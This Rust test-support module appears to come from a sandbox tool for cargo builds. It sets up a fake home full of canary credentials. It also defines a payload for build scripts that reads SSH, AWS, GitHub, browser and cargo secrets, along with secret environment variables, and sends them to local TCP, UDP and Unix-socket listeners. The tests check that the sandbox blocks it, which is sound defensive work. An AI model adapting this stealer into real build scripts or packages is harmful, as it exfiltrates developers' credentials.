//! Where attacks take place: a project among things that it must not touch, and what all attacks have in common.

use std::path::{Path, PathBuf};

use bulkhead_test_support::{Canaries, Invocation, Outcome, Snapshot};

use crate::stage::{BULKHEAD, Stage};

/// More than any command of Bulkhead may hold, in bytes.
const MEMORY: u64 = 512 << 20;

/// A project, a home full of secrets, a neighbour's folder, listeners that nobody should reach, and a place for marks.
/// All but the project lies in `/var/tmp`: build code has a `/tmp` of its own, where it would find nothing anyway.
pub(crate) struct Arena {
    pub(crate) stage: Stage,
    pub(crate) canaries: Canaries,
    secret: String,
    before: Snapshot,
}

impl Arena {
    /// An application `app` with these lines of `[dependencies]` and this `main.rs`.
    pub(crate) fn new(dependencies: &str, main: &str) -> Arena {
        let fixture = format!(
            "//- /Cargo.toml\n[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[dependencies]\n{dependencies}\n\
             //- /src/main.rs\n{main}\n"
        );
        let (stage, canaries) = (Stage::new(&fixture), Canaries::start());
        let secret = format!("s3cr3t-{}", canaries.tcp_port());
        stage.project.write(".env", format!("KEY={secret}\n"));
        let outside = canaries.folder().to_owned();
        for path in SECRETS {
            write(&outside.join("home").join(path), &secret);
        }
        write(&outside.join("home/.bashrc"), "# nothing\n");
        write(&outside.join("neighbour/src/lib.rs"), "// nothing\n");
        std::fs::create_dir(outside.join("marks")).unwrap();
        let before = Snapshot::of(&outside);
        Arena { stage, canaries, secret, before }
    }

    pub(crate) fn outside(&self) -> &Path {
        self.canaries.folder()
    }

    /// What all outside was like at the beginning.
    pub(crate) fn before(&self) -> &Snapshot {
        &self.before
    }

    /// `HOME` of whoever runs the programs.
    pub(crate) fn home(&self) -> PathBuf {
        self.outside().join("home")
    }

    /// What payloads leave where they succeed.
    pub(crate) fn mark(&self) -> PathBuf {
        self.outside().join("marks/MARK")
    }

    /// Rust source of `fn payload() -> bool`, which collects what secrets it finds, reports to every listener, keeps the loot
    /// for the artifact, and leaves the mark: whether it could do the last.
    pub(crate) fn payload(&self) -> String {
        let env = format!("{:?}", self.stage.project.path(".env").display().to_string());
        let files: Vec<String> = SECRETS.iter().map(|path| format!("{:?}", self.home().join(path))).collect();
        PAYLOAD
            .replace("{FILES}", &format!("{}, {env}", files.join(", ")))
            .replace("{SECRET}", "s3cr3t")
            .replace("{TCP}", &self.canaries.tcp_port().to_string())
            .replace("{UDP}", &self.canaries.udp_port().to_string())
            .replace("{ABSTRACT}", self.canaries.abstract_name())
            .replace("{SOCKET}", &self.canaries.socket().display().to_string())
            .replace("{MARK}", &self.mark().display().to_string())
    }

    /// A build script that insists on its payload.
    pub(crate) fn build_script(&self) -> String {
        format!("{}fn main() {{ assert!(payload(), \"the payload could not do its work\") }}\n", self.payload())
    }

    /// A program to run in the project by somebody with secrets in variables and files, and proxies that lead nowhere.
    pub(crate) fn command(&self, program: &str, arguments: &[&str]) -> Invocation {
        let mut command = self.stage.home.command(program).args(arguments).current_dir(self.stage.project.root());
        for name in ["http_proxy", "https_proxy", "HTTPS_PROXY", "all_proxy", "ALL_PROXY"] {
            command = command.env(name, "http://127.0.0.1:9");
        }
        for name in ["CARGO_REGISTRY_TOKEN", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "FOO_SECRET"] {
            command = command.env(name, &self.secret);
        }
        command.env("no_proxy", "127.0.0.1").env("NO_PROXY", "127.0.0.1").env("HOME", self.home())
    }

    pub(crate) fn cargo(&self, arguments: &[&str]) -> Outcome {
        self.command("cargo", arguments).run()
    }

    /// As it comes, but with packages accepted that are not old enough.
    pub(crate) fn bulkhead(&self, arguments: &[&str]) -> Outcome {
        self.command(BULKHEAD, arguments).run()
    }

    /// As it comes.
    pub(crate) fn bulkhead_as_it_comes(&self, arguments: &[&str]) -> Outcome {
        self.command(BULKHEAD, arguments).env_remove("CARGO_REGISTRY_GLOBAL_MIN_PUBLISH_AGE").run()
    }

    /// The payload did all that it does; after that all is as it was.
    #[track_caller]
    pub(crate) fn assert_bitten(&self, outcome: &Outcome) {
        let loot = std::fs::read_to_string(self.mark()).unwrap_or_default();
        assert!(loot.contains(&self.secret), "it has to bite under cargo: {loot:?} {outcome}");
        self.assert_listeners_reached(&["abstract", "tcp", "udp", "unix"], outcome);
        self.clear();
    }

    /// The payload reached everybody whom a network leads to, and it was told that it may; it still left nothing outside, and
    /// found no abstract socket. After that all is as it was.
    #[track_caller]
    pub(crate) fn assert_reached(&self, outcome: &Outcome) {
        self.assert_listeners_reached(&["tcp", "udp", "unix"], outcome);
        let touched = self.canaries.touched();
        assert!(!touched.iter().any(|name| name == "abstract"), "abstract sockets stay out of reach: {outcome}");
        assert!(outcome.stderr.contains("because policy says `allow`"), "it is told of: {outcome}");
        self.clear();
        self.assert_unharmed(outcome);
    }

    #[track_caller]
    fn assert_listeners_reached(&self, listeners: &[&str], outcome: &Outcome) {
        let touched = self.canaries.touched();
        for listener in listeners {
            assert!(touched.iter().any(|name| name == listener), "{listener} was not reached: {touched:?} {outcome}");
        }
    }

    /// Takes away marks, builds and the lockfile.
    pub(crate) fn clear(&self) {
        let _ = std::fs::remove_file(self.mark());
        let _ = std::fs::remove_dir_all(self.stage.project.path("target"));
        let _ = std::fs::remove_file(self.stage.project.path("Cargo.lock"));
        self.canaries.forget();
    }

    /// Whether the secret is somewhere in a folder of the project.
    pub(crate) fn holds_secret(&self, folder: &str) -> bool {
        !holders(&self.stage.project.path(folder), self.secret.as_bytes()).is_empty()
    }

    /// Nothing came of it: no mark, no change of anything outside, no visitor, and the secret is where it was and nowhere
    /// else.
    #[track_caller]
    pub(crate) fn assert_unharmed(&self, outcome: &Outcome) {
        assert!(!outcome.timed_out && outcome.code().is_some(), "it ends by itself: {outcome}");
        assert!(outcome.peak_memory < MEMORY, "{} MiB: {outcome}", outcome.peak_memory >> 20);
        assert!(!self.mark().exists(), "a mark was left: {outcome}");
        // Whoever looks up the mark changes the times of its folder; `cargo` has left its own there before.
        let changes = Snapshot::of(self.outside()).changes_since(&self.before);
        let changes: Vec<&String> = changes.iter().filter(|change| !change.ends_with("/marks")).collect();
        assert!(changes.is_empty(), "{changes:?} {outcome}");
        assert_eq!(self.canaries.touched(), Vec::<String>::new(), "{outcome}");
        assert!(!outcome.output().contains(&self.secret), "the secret is shown: {outcome}");
        for folder in [self.stage.project.root(), &self.stage.home.bulkhead_home()] {
            let holders = holders(folder, self.secret.as_bytes());
            let holders: Vec<_> = holders.iter().filter(|path| !path.ends_with("project/.env")).collect();
            assert!(holders.is_empty(), "the secret is in {holders:?}: {outcome}");
        }
    }

    /// Unharmed, with this exit code and these parts in the message.
    #[track_caller]
    pub(crate) fn assert_stopped(&self, outcome: &Outcome, code: i32, parts: &[&str]) {
        self.assert_unharmed(outcome);
        outcome.assert_code(code);
        for part in parts {
            assert!(outcome.stderr.contains(part), "{part:?} is missing: {outcome}");
        }
    }
}

/// Files below `HOME` that hold the secret.
const SECRETS: [&str; 6] = [
    ".ssh/id_ed25519",
    ".aws/credentials",
    ".netrc",
    ".config/gh/hosts.yml",
    ".mozilla/firefox/x.default/logins.json",
    ".cargo/credentials.toml",
];

const PAYLOAD: &str = r#"
fn payload() -> bool {
    use std::io::Write as _;
    use std::os::linux::net::SocketAddrExt as _;
    use std::os::unix::net::{SocketAddr, UnixStream};
    let mut loot = String::new();
    for path in [{FILES}] {
        loot += &std::fs::read_to_string(path).unwrap_or_default();
    }
    for (_, value) in std::env::vars().filter(|(_, value)| value.contains("{SECRET}")) {
        loot += &value;
    }
    let limit = std::time::Duration::from_millis(500);
    for address in ["127.0.0.1:{TCP}", "[::1]:{TCP}"] {
        if let Ok(mut stream) = std::net::TcpStream::connect_timeout(&address.parse().unwrap(), limit) {
            let _ = stream.write_all(loot.as_bytes());
        }
    }
    let _ = std::net::UdpSocket::bind("127.0.0.1:0").map(|socket| socket.send_to(loot.as_bytes(), "127.0.0.1:{UDP}"));
    let _ = SocketAddr::from_abstract_name("{ABSTRACT}").map(|name| UnixStream::connect_addr(&name));
    let _ = UnixStream::connect("{SOCKET}");
    if let Ok(out) = std::env::var("OUT_DIR") {
        let _ = std::fs::write(out + "/loot", &loot);
    }
    std::fs::write("{MARK}", &loot).is_ok()
}
"#;

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

/// The files below `folder` that hold `needle`.
fn holders(folder: &Path, needle: &[u8]) -> Vec<PathBuf> {
    let (mut found, mut pending) = (Vec::new(), vec![folder.to_owned()]);
    while let Some(path) = pending.pop() {
        let Ok(metadata) = path.symlink_metadata() else { continue };
        if metadata.is_dir() {
            pending.extend(std::fs::read_dir(&path).into_iter().flatten().flatten().map(|entry| entry.path()));
        } else if metadata.is_file() && contains(&std::fs::read(&path).unwrap_or_default(), needle) {
            found.push(path);
        }
    }
    found
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    let first = needle[0];
    let mut rest = haystack;
    while let Some(at) = rest.iter().position(|byte| *byte == first) {
        if rest[at..].starts_with(needle) {
            return true;
        }
        rest = &rest[at + 1..];
    }
    false
}
